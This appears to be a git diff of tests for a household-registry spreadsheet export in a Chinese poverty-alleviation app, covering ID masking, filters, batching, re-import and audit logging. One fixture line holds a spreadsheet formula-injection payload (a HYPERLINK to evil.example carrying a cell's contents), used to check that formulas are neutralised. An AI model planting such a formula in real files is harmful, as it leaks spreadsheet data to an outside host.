@@ -9,14 +9,17 @@ import ExcelJS from 'exceljs';
 import type { FastifyInstance } from 'fastify';
 import { openDatabase, type Database } from '../../src/db/database';
 import { ALL_PLACES } from '../../src/db/placeScope';
-import { buildApp } from '../../src/server/app';
-import { prepareHouseholdExport } from '../../src/modules/exports/service';
+import { CONSOLE_ACTOR } from '../../src/modules/audit/service';
+import { exportHouseholds } from '../../src/modules/exports/service';
 import { REGISTRY_EXPORT_COLUMNS } from '../../src/modules/exports/columns';
 import { writeFileSync } from 'node:fs';
 import { templateHeaders } from '../../src/modules/imports/columns';
 import { importRegistry } from '../../src/modules/imports/service';
 import { testDatabases } from '../helpers/databases';
 import { createHousehold, createPlaceTree, type CreatedHousehold, type TestPlaces } from '../helpers/factory';
+import { registryApp, signIn, type Client } from './session';
+
+const EVERYWHERE = { scope: ALL_PLACES, pairedCadreId: null };
 
 const HEADERS = templateHeaders();
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
@@ -37,7 +40,7 @@ async function readSheet(bytes: Buffer): Promise<Row[]> {
   return rows.slice(1).map((r) => Object.fromEntries(HEADERS.map((h, i) => [h, r[i]])));
 }
 
-/** Six households, eleven persons; one member's name is a formula, one a leading minus. */
+/** Six households, twelve persons; one member's name is a formula, one a leading minus. */
 async function seedForExport(database: Database): Promise<{ places: TestPlaces; households: CreatedHousehold[] }> {
   const places = await createPlaceTree(database, 1, 2);
   const households: CreatedHousehold[] = [];
@@ -60,16 +63,26 @@ describe.each(testDatabases)('registry export on $name', ({ open }) => {
   let app: FastifyInstance;
   beforeAll(async () => {
     database = await open();
-    app = await buildApp({ database });
+    app = await registryApp(database);
   });
+  /** The export's registry, and a county operator of its county signed in as `as`. */
+  let as: Client;
+  async function seed() {
+    const seeded = await seedForExport(database);
+    as = await signIn(app, database, 'county_operator', seeded.places.countyCode);
+    return seeded;
+  }
+  const get = (url: string) => as.inject('GET', url);
+  const consoleExport = (place: string, reveal: { idNumber: boolean; phone: boolean }, batchSize: number) =>
+    exportHouseholds(database.db, EVERYWHERE, { place }, { reveal, batchSize, author: CONSOLE_ACTOR, placeCode: place });
   afterAll(async () => {
     await app?.close();
     await database?.close();
   });
 
   it('streams one row per person with Chinese headers and labels, IDs masked, formulas neutralised', async () => {
-    const { places, households } = await seedForExport(database);
-    const res = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?place=${places.countyCode}` });
+    const { places, households } = await seed();
+    const res = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}`);
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toContain('spreadsheetml');
     expect(res.headers['content-disposition']).toContain(encodeURIComponent('建档立卡户'));
@@ -116,8 +129,8 @@ describe.each(testDatabases)('registry export on $name', ({ open }) => {
   });
 
   it('reveals ID numbers when asked and allowed, and applies the list filters', async () => {
-    const { places, households } = await seedForExport(database);
-    const res = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?place=${places.countyCode}&status=未脱贫&reveal=idNumber` });
+    const { places, households } = await seed();
+    const res = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&status=未脱贫&reveal=idNumber`);
     expect(res.statusCode).toBe(200);
     const rows = await readSheet(res.rawPayload);
     const poor = households.slice(0, 3);
@@ -125,32 +138,32 @@ describe.each(testDatabases)('registry export on $name', ({ open }) => {
     expect(rows.map((r) => r['证件号码']).sort()).toEqual(expected);
     expect(rows.every((r) => r['户状态'] === '未脱贫')).toBe(true);
     expect(rows.find((r) => r['姓名'] === '张三')!['个人联系电话']).toBe('138****5678');
-    const village = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?place=${places.villageCodes[1]}&reveal=idNumber,phone&attribute=dibao` });
+    const village = await get(`/api/v1/households/export.xlsx?place=${places.villageCodes[1]}&reveal=idNumber,phone&attribute=dibao`);
     const villageRows = await readSheet(village.rawPayload);
     expect(villageRows).toHaveLength(2 * 2);
     expect(villageRows.every((r) => r['户属性'] === '低保贫困户' && r['村'] === '测试1镇2村村委会' && r['联系电话'] === '13800001234')).toBe(true);
-    const phones = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=phone` });
+    const phones = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=phone`);
     const head = (await readSheet(phones.rawPayload)).find((r) => r['姓名'] === '张三')!;
     expect(head['个人联系电话']).toBe('13812345678');
     expect(head['证件号码']).toMatch(MASKED_ID);
   });
 
   it('refuses bad filters before writing anything', async () => {
-    const { places } = await seedForExport(database);
-    const badReveal = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=password` });
+    const { places } = await seed();
+    const badReveal = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=password`);
     expect(badReveal.statusCode).toBe(400);
     expect(badReveal.json().error.message).toContain('password');
-    const badStatus = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?status=nope` });
+    const badStatus = await get(`/api/v1/households/export.xlsx?status=nope`);
     expect(badStatus.statusCode).toBe(400);
     expect(badStatus.json().error.message).toContain('nope');
-    const unknown = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?place=${places.countyCode}000999` });
+    const unknown = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}000999`);
     expect(unknown.statusCode).toBe(404);
     expect(unknown.headers['content-type']).toContain('application/json');
   });
 
   it('reads in keyset batches across household boundaries and counts what it wrote', async () => {
-    const { places, households } = await seedForExport(database);
-    const prepared = await prepareHouseholdExport(database.db, ALL_PLACES, { place: places.countyCode }, { reveal: { idNumber: true, phone: false }, batchSize: 2 });
+    const { places, households } = await seed();
+    const prepared = await consoleExport(places.countyCode, { idNumber: true, phone: false }, 2);
     const out = new PassThrough();
     const chunks: Buffer[] = [];
     out.on('data', (c: Buffer) => chunks.push(c));
@@ -165,8 +178,8 @@ describe.each(testDatabases)('registry export on $name', ({ open }) => {
   });
 
   it('stops reading when the receiver goes away', async () => {
-    const { places } = await seedForExport(database);
-    const prepared = await prepareHouseholdExport(database.db, ALL_PLACES, { place: places.countyCode }, { reveal: { idNumber: false, phone: false }, batchSize: 1 });
+    const { places } = await seed();
+    const prepared = await consoleExport(places.countyCode, { idNumber: false, phone: false }, 1);
     let written = 0;
     const out = new Writable({
       write(chunk: Buffer, _encoding, done) {
@@ -182,10 +195,11 @@ describe.each(testDatabases)('registry export on $name', ({ open }) => {
 
   it('exports a file that imports again without changing anything', async () => {
     const places = await createPlaceTree(database, 2, 1);
+    as = await signIn(app, database, 'county_operator', places.countyCode);
     const made: CreatedHousehold[] = [];
     made.push(await createHousehold(database, places, { otherCauses: ['labour', 'skills'], columns: { food_secure: true, house_grade: 'B', water_lpd: 45.5, water_piped: false }, members: [{ name: '刘一', relation: 'head', columns: { insured_basic: true, disability_grade: 3, phone: '13700001111' } }, { name: '刘二', relation: 'son', columns: { schooling: 'dropout', work_status: 'out_of_province' } }] }));
     made.push(await createHousehold(database, places, { villageCode: places.villageCodes[1], status: 'monitored', monitorCategory: 'sudden', attribute: 'tekun', incomes: [{ year: 2020, wages: 100.5, property: 20 }] }));
-    const res = await app.inject({ method: 'GET', url: `/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=idNumber,phone` });
+    const res = await get(`/api/v1/households/export.xlsx?place=${places.countyCode}&reveal=idNumber,phone`);
     const dir = mkdtempSync(join(tmpdir(), 'fupin-reimport-'));
     try {
       const path = join(dir, 'export.xlsx');
@@ -233,6 +247,16 @@ describe('fupin export (CLI)', () => {
       const bad = await run(process.execPath, ['--import', 'tsx', 'src/cli/fupin.ts', 'export', '--status', 'rich', '--out', revealed], { env }).catch((e) => e);
       expect(bad.code).toBe(1);
       expect(bad.stderr).toContain('rich');
+      const audited = await openDatabase({ dataDir: join(dir, 'data') });
+      try {
+        const events = await audited.db.selectFrom('audit_event').select(['username', 'place_code', 'after']).where('action', '=', 'registry.export').orderBy('id').execute();
+        expect(events).toEqual([
+          { username: '(命令行)', place_code: seeded.places.countyCode, after: { filters: { place: seeded.places.countyCode, status: 'poor' }, revealed: [], households: 3, rows: 7 } },
+          { username: '(命令行)', place_code: seeded.places.countyCode, after: { filters: { place: seeded.places.countyCode }, revealed: ['idNumber', 'phone'], households: 6, rows: seeded.households.flatMap((h) => h.members).length } },
+        ]);
+      } finally {
+        await audited.close();
+      }
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
